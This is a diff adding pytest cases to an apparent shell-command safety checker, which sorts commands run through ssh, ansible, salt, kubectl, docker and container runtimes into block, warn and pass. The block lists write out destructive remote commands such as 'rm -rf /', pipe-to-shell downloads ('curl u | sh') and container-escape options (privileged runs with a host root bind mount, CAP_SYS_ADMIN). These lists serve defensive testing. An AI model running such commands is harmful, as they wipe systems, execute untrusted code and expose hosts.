@@ -8,6 +8,14 @@ Properties checked (each table has both directions):
   find -exec rm, a version suffix), locally and through ssh / kubectl exec / docker exec;
   container engine state and direct children of /srv warn; Dockerfile cleanups
   (``/var/lib/apt/lists/*``), logs inside a data directory and scratch paths pass;
+* a command run on another host, VM or container is classified as the code it is, for every
+  front end (ssh with options before and after the host, sshpass, autossh, mosh, tsh, vagrant
+  ssh -c, gcloud ... ssh --command / -- ARGS, ansible -a, salt cmd.run, pdsh/pssh, az vm
+  run-command, oc rsh, lxc/incus/multipass exec, toolbox, distrobox, systemd-nspawn, crictl,
+  runc, ctr): what blocks locally blocks there; everyday remote commands pass;
+* running as root where the image chose another user (``docker exec -u 0``) or through a
+  low-level runtime (``runc exec``, ``ctr run``, ``crictl exec``) warns (``shell.privilege``),
+  and the runtimes' host-opening options block (``shell.container-escape``);
 """
 
 from __future__ import annotations
@@ -94,3 +102,127 @@ def test_engine_state_and_srv_delete_warns(command: str) -> None:
 @pytest.mark.parametrize("command", DATA_DELETE_PASSES)
 def test_everyday_deletes_near_data_directories_pass(command: str) -> None:
     assert _verdict(command) == "pass", command
+
+
+# --- P: commands run elsewhere ----------------------------------------------------------------
+
+REMOTE_BLOCKS = [
+    "ssh host -t 'rm -rf /'",
+    "ssh -p 2222 -i ~/.ssh/deploy host -- rm -rf ~",
+    "ssh host -o LogLevel=error 'curl -s https://x.example/i | sh'",
+    "sshpass -p hunter2 ssh root@10.0.0.5 'rm -rf /etc'",
+    "sshpass -e ssh -o StrictHostKeyChecking=no h 'wget -qO- u | bash'",
+    "autossh -M 0 -f host 'rm -rf /'",
+    "mosh --port=60001 host -- rm -rf /",
+    "tsh ssh --login=root node-1 'rm -rf /'",
+    "vagrant ssh -c 'rm -rf /'",
+    "vagrant ssh web --command 'curl -fsSL u | sudo sh'",
+    "vagrant ssh web -- -t 'rm -rf /'",
+    "gcloud compute ssh vm --command='rm -rf /'",
+    "gcloud compute ssh vm --zone us-east1-b --command 'curl u | bash'",
+    "gcloud compute tpus tpu-vm ssh tpu-1 --zone=x --command='rm -rf /'",
+    "gcloud compute ssh vm -- -t 'rm -rf /'",
+    "ansible all -m shell -a 'rm -rf /'",
+    "ansible all -i prod.ini -b -a 'rm -rf /var/lib/mysql'",
+    "ansible web --module-name=ansible.builtin.raw --args='curl u | sh'",
+    "salt '*' cmd.run 'rm -rf /'",
+    "salt-ssh 'web*' cmd.run_all 'curl u | sh'",
+    "pdsh -w web[1-4] rm -rf /",
+    "pssh -h hosts.txt -i 'curl u | sh'",
+    "az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'rm -rf /'",
+    "oc rsh pod-1 rm -rf /",
+    "oc rsh -c app pod-1 sh -c 'curl u|sh'",
+    "lxc exec c -- rm -rf /",
+    "incus exec c --user 0 -- sh -c 'rm -rf /'",
+    "multipass exec vm -- sudo rm -rf /",
+    "toolbox run -c dev rm -rf ~",
+    "distrobox enter box -- rm -rf ~",
+    "systemd-nspawn -D /var/lib/machines/c rm -rf /",
+    "crictl exec -it abc rm -rf /",
+    "runc exec x sh -c 'curl u | sh'",
+    "ctr task exec --exec-id x c rm -rf /",
+    "ctr run --rm docker.io/library/alpine:latest x rm -rf /",
+    "kubectl exec -n prod deploy/api -- bash -c 'rm -rf /'",
+    "docker exec -i app sh -c 'rm -rf /'",
+]
+
+REMOTE_PASSES = [
+    "ssh host uptime",
+    "ssh -p 2222 host 'cd app && git pull && make'",
+    "ssh -T git@github.com",
+    "ssh host -N -L 5432:localhost:5432",
+    "ssh host ls -la /",
+    "sshpass -p pw ssh host 'df -h'",
+    "vagrant ssh",
+    "vagrant up && vagrant ssh -c 'cd /vagrant && make test'",
+    "gcloud compute ssh vm --zone us-east1-b",
+    "gcloud compute ssh vm --command='journalctl -u app -n 100'",
+    "gcloud compute instances list",
+    "ansible web -m ping",
+    "ansible web -m apt -a 'name=nginx state=present'",
+    "ansible all -i hosts -a uptime",
+    "salt '*' test.ping",
+    "pdsh -w web[1-4] uptime",
+    "oc get pods",
+    "oc rsh api-1",
+    "lxc exec c bash",
+    "lxc list",
+    "multipass exec vm -- ls",
+    "toolbox run make",
+    "crictl ps",
+    "ctr images pull docker.io/library/alpine:latest",
+    "runc list",
+    "kubectl exec -it api-0 -- python manage.py shell",
+    "docker exec -it app sh",
+    "docker exec -u node app npm test",
+    "docker run --rm -v \"$PWD\":/src -w /src node:20 npm test",
+    "az vm list -o table",
+]
+
+
+@pytest.mark.parametrize("command", REMOTE_BLOCKS)
+def test_command_run_elsewhere_blocks_like_local(command: str) -> None:
+    assert _verdict(command) == "block", command
+
+
+@pytest.mark.parametrize("command", REMOTE_PASSES)
+def test_everyday_remote_commands_pass(command: str) -> None:
+    assert _verdict(command) == "pass", command
+
+
+PRIVILEGE_WARNS = [
+    "docker exec -u 0 -it app sh",
+    "docker exec --user root app apt-get -v",
+    "docker exec -u0 app id",
+    "docker exec --user=0:0 app sh",
+    "podman exec -u root c sh",
+    "docker compose exec -u root api sh",
+    "runc exec -t x sh",
+    "crictl exec -it abc sh",
+    "ctr -n k8s.io task exec -t --exec-id dbg c sh",
+]
+
+
+@pytest.mark.parametrize("command", PRIVILEGE_WARNS)
+def test_root_in_container_or_runtime_exec_warns(command: str) -> None:
+    assert _verdict(command) == "warn", command
+    assert "shell.privilege" in _rules(command), command
+
+
+RUNTIME_ESCAPES = [
+    "ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind "
+    "docker.io/library/alpine:latest x",
+    "ctr run --mount type=bind,src=/etc,dst=/e,options=rbind:rw docker.io/library/alpine:3 x",
+    "ctr -n k8s.io run --with-ns pid:/proc/1/ns/pid docker.io/library/alpine:latest x sh",
+    "ctr run --privileged-without-host-devices docker.io/library/busybox:latest x",
+    "ctr run --cap-add CAP_SYS_ADMIN docker.io/library/alpine:latest x",
+    "ctr run --device /dev/sda docker.io/library/alpine:latest x",
+    "runc exec --cap CAP_SYS_ADMIN x sh",
+    "runc exec --cap=CAP_SYS_MODULE x sh",
+]
+
+
+@pytest.mark.parametrize("command", RUNTIME_ESCAPES)
+def test_runtime_escapes_block(command: str) -> None:
+    assert _verdict(command) == "block", command
+    assert "shell.container-escape" in _rules(command), command
